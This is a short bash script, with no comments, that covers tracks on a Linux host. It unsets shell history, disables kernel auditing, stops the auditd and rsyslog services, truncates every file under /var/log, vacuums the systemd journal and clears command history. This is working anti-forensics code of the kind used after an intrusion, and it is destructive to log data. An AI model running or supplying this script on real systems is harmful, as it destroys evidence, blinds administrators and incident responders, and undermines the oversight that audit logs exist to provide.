#!/bin/bash
unset HISTFILE
auditctl -e 0
systemctl stop auditd rsyslog
find /var/log -type f -exec truncate -s 0 {} +
journalctl --rotate && journalctl --vacuum-time=1s
history -c
